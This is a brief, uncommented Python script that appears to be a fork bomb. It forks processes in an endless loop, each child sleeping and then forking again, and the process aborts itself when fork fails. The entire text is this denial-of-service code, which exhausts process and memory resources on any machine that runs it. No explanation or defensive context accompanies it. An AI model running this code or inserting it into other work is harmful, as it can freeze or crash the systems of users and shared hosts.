import os, sys, time

while True:
    try:
        pid = os.fork()
    except OSError:
        os.kill(os.getpid(), 6)
    if pid == 0:
        time.sleep(60)
